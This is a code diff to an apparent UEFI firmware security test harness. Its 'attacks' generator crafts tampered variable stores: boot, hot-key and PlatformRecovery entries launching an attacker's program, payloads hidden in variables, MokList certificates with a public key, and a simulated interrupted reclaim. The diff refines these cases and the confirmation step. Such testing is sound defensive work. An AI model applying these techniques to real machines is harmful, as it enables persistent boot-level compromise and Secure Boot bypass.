@@ -607,6 +607,8 @@ def attacks(raw, arch, firmware):
             attributes, title, path, optional = parts(store.get(name, GLOBAL))
             data = change(attributes, title, path, optional)
             store.set(name, GLOBAL, data)
+            if path != parts(data)[2]:
+                return []  # EDK II makes the entry of its menu anew.
             return [{"name": name, "guid": GLOBAL, "is": data.hex()}]
         return apply
 
@@ -651,7 +653,6 @@ def attacks(raw, arch, firmware):
         """As if power had failed when a reclaim had written the spare block and not yet the store."""
         work = bytes(store.raw).find(WORKING, store.end)
         spare = work + 0x1000 if arch == "x64" else work + 0x40000
-        size = work - 0x1000 if arch == "x64" else work
         block = 0x1000 if arch == "x64" else 0x40000
         if work < 0:
             raise KeyError("no working block")
@@ -662,9 +663,9 @@ def attacks(raw, arch, firmware):
         store.raw[spare:spare + length] = other.raw[:length]
         queue = struct.unpack_from("<Q", store.raw, work + 24)[0]
         store.raw[work + 32:work + 32 + queue] = b"\xff" * queue
-        caller = uuid.UUID("3a6b2c6b-4f0d-4e4d-8f53-0fa8e40a4f3a").bytes_le
-        store.raw[work + 32:work + 72] = struct.pack("<B3x16s4xQQ", 0xfc, caller, 1, 0)
-        store.raw[work + 72:work + 112] = struct.pack("<B7xQQQq", 0xfd, 0, 0, size if arch == "x64" else 0x40000, -spare)
+        caller = uuid.UUID("fe5cea76-4f72-49e8-986f-2cd899dffe5d").bytes_le
+        store.raw[work + 32:work + 72] = struct.pack("<B3s16s4sQQ", 0xfc, b"\xff" * 3, caller, b"\xff" * 4, 1, 0)
+        store.raw[work + 72:work + 112] = struct.pack("<B7sQQQq", 0xfd, b"\xff" * 7, 0, store.start, store.end - store.start, -spare)
         return [{"name": "Timeout", "guid": GLOBAL, "is": data.hex()}]
 
     number = lambda *values: b"".join(struct.pack("<H", value) for value in values)
@@ -700,7 +701,7 @@ def attacks(raw, arch, firmware):
     yield from make("hot-key", "Key0000 starts the attacker's entry", both(puts("Boot0066", GLOBAL, app, whole),
                     puts("Key0000", GLOBAL, struct.pack("<IIHHH", 1 << 30, zlib.crc32(app), 0x66, 0, ord("x")), whole)))
     yield from make("platform-recovery-added", "PlatformRecovery0000 points to the attacker's program",
-                    lambda store: store.set("PlatformRecovery0000", GLOBAL, app, whole))
+                    puts("PlatformRecovery0000", GLOBAL, app, whole))
     yield from make("program-in-variable", "a program in a variable of its own", puts("Payload", OURS, evil, whole))
     yield from make("program-in-language", "a program behind PlatformLang's text", puts("PlatformLang", GLOBAL, lambda old: b"en\0" + evil, whole))
     yield from make("mok-added", "MokList and MokListTrusted hold a certificate whose key is public",
@@ -768,6 +769,9 @@ def confirm(out, firmware, only):
             for see in one["sees"]:
                 if see.get("secure"):
                     continue
+                if see.get("name"):
+                    found = dump.get((see["name"], see["guid"]))
+                    one.setdefault("found", {})[see["name"]] = found and found[1].hex()[:80]
                 if see.get("ran"):
                     said.append(RAN.encode() in run["told"])
                 elif see.get("same"):
